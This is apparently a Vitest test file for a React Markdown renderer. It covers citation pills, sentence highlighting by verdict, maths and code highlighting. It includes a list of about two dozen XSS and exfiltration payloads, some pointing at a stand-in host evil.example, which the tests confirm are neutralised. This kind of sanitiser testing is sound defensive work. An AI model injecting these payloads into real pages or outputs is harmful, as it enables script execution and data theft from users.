import { renderToStaticMarkup } from "react-dom/server";
import { beforeAll, describe, expect, it } from "vitest";
import { loadRich, Markdown } from "@/components/markdown";
import type { MarkedSentence } from "@/lib/answer-marks";

function render(text: string, sources = [1, 2, 3], sentences: MarkedSentence[] = []): string {
  return renderToStaticMarkup(<Markdown text={text} sources={new Set(sources)} sentences={sentences} renderCitation={(n, s) => <button>{`pill ${n} of ${s}`}</button>} />);
}

describe("answers as Markdown", () => {
  it("turns marks into pills, but only those of sources", () => {
    const html = render("First [1]. Second [2, 3], third [4], year [2020].");
    expect(html).toContain("<button>pill 1 of -1</button>");
    expect(html).toContain('<span class="whitespace-nowrap"><button>pill 1 of -1</button>.</span> Second');
    expect(html).toMatch(/pill 2 of -1<.button><.span><span class="whitespace-nowrap"><button>pill 3 of -1/);
    expect(html).toContain("third [4], year [2020].");
  });

  it("takes numbers as they are where some are missing", () => {
    const html = render("First [2], second [7], third [1], fourth [3].", [2, 7]);
    expect(html).toContain("pill 2 of");
    expect(html).toContain("pill 7 of");
    expect(html).toContain("third [1], fourth [3].");
  });

  it("leaves code alone", () => {
    const html = render("`a[1]` and\n\n```\nb[2]\n```\n");
    expect(html).not.toContain("pill");
    expect(html).toContain("a[1]");
  });

  it("knows the sentence of a mark behind emoji and escapes", () => {
    const first = "🎉🎉 Tested 🧪 [1].";
    const text = `${first} Then *more* [2].`;
    const sentences: MarkedSentence[] = [
      { answer_start: 0, answer_end: Array.from(first).length, verdict: "supported" },
      { answer_start: Array.from(first).length + 1, answer_end: Array.from(text).length, verdict: "unsure" },
    ];
    const html = render(text, [1, 2], sentences);
    expect(html).toContain("pill 1 of 0");
    expect(html).toContain("pill 2 of 1");
    expect(html).toMatch(/🧪 <span class="whitespace-nowrap"><button>/);
    expect(html).toContain('class="sentence-unsure"');
    expect(html.indexOf("sentence-unsure")).toBeGreaterThan(html.indexOf("pill 1"));
  });

  it("marks an unsupported sentence inside a list", () => {
    const text = "- One fact.\n- Two facts [1].";
    const html = render(text, [1], [{ answer_start: 2, answer_end: 11, verdict: "not_found" }]);
    expect(html).toContain('<span class="sentence-unsupported" title="No passage says it">One fact.</span>');
  });

  it("tints sentences by their source and hides those of sources that are set aside", () => {
    const text = "First [1]. Second [2].";
    const sentences: MarkedSentence[] = [
      { answer_start: 0, answer_end: 10, verdict: "supported", citations: [{ n: 1 }] },
      { answer_start: 11, answer_end: 22, verdict: "supported", citations: [{ n: 2 }] },
    ];
    const html = (marks: { tinted?: boolean; aside?: ReadonlySet<number> }): string =>
      renderToStaticMarkup(<Markdown text={text} sources={new Set([1, 2])} sentences={sentences} {...marks} renderCitation={(n) => <b>{n}</b>} />);
    expect(html({})).not.toContain("<span class=\"source");
    expect(html({ tinted: true })).toContain('<span class="source-tint-0">First</span>');
    expect(html({ tinted: true })).toContain('<span class="source-tint-1">Second</span>');
    expect(html({ aside: new Set([2]) })).toContain('<span class="sentence-aside">Second</span>');
    expect(html({ aside: new Set([2]) })).not.toContain("sentence-aside\">First");
  });

  it("keeps a numeric reference a citation when the text defines it as a link", () => {
    const html = render("See [1] and [words][1].\n\n[1]: https://evil.example/x");
    expect(html).toContain("pill 1");
    expect(html).not.toContain("evil.example");
  });

  const HOSTILE = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    "![secret](https://evil.example/?q=secret)",
    "![a][b]\n\n[b]: https://evil.example/i.png",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload=alert(1)>',
    "<style>@import 'https://evil.example'</style>",
    '<link rel="stylesheet" href="https://evil.example">',
    "[x](//evil.example/a)",
    "[x](file:///etc/passwd)",
    '<details open ontoggle=alert(1)>',
    '<form action="https://evil.example"><input name=a></form>',
    '<object data="https://evil.example"></object>',
    '<base href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "[x](JaVaScRiPt:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "<math><mtext></mtext><style><img src onerror=alert(1)></style></math>",
    "- [ ] ![t](https://evil.example/t)",
    "| ![c](https://evil.example/c) |\n|---|\n| <img src=https://evil.example> |",
  ];

  it.each(HOSTILE)("renders nothing that runs or asks elsewhere: %s", (text) => {
    // Only tags count: a payload shown as escaped text is the right outcome.
    const html = render(text).match(/<[^>]*>/g)?.join("") ?? "";
    expect(html).not.toMatch(/<(script|img|iframe|svg|style|link|form|object|base|meta|input|math|details)\b/i);
    expect(html).not.toMatch(/\s(on\w+|src|style|srcset|action)=/i);
    expect(html).not.toMatch(/href="(?!https?:\/\/)/i);
  });

  it("shows the host that a link goes to, and opens it apart", () => {
    expect(render("[my bank](https://evil.example/login)")).toBe(
      '<p><a href="https://evil.example/login" target="_blank" rel="noopener noreferrer nofollow">my bank<span class="text-muted"> (evil.example)</span></a></p>',
    );
  });

  it("draws tables", () => {
    expect(render("| a | b |\n|---|---|\n| 1 [1] | 2 |")).toContain('<td>1 <span class="whitespace-nowrap"><button>pill 1');
  });
});

describe("maths and code", () => {
  beforeAll(async () => {
    await loadRich();
  });

  it("draws formulas in either notation, with the mark behind them", () => {
    for (const formula of ["$E = mc^2$", "\\(E = mc^2\\)", "\\[E = mc^2\\]", "$$E = mc^2$$"]) {
      const html = render(`Energy is ${formula} [1].`, [1], [{ answer_start: 0, answer_end: `Energy is ${formula} [1].`.length, verdict: "supported" }]);
      expect(html).toContain('class="katex"');
      expect(html).toContain("pill 1 of 0");
    }
  });

  it("leaves prices as they are", () => {
    const html = render("It costs $5 and earns $10 [1]; from $3,$4 or US$ 7 to A$ 9.");
    expect(html).not.toContain("katex");
    expect(html).toContain("It costs $5 and earns $10 ");
    expect(html).toContain("from $3,$4 or US$ 7 to A$ 9.");
  });

  it("shows a broken formula as it was written", () => {
    expect(render("See $\\frac{1}{$ here.")).toContain("\\frac{1}{");
  });

  it("colours code by its language", () => {
    const html = render("```python\ndef f():\n    return 1\n```");
    expect(html).toContain('class="hljs-keyword">def');
    expect(html).toContain('aria-label="Copy code"');
  });
});
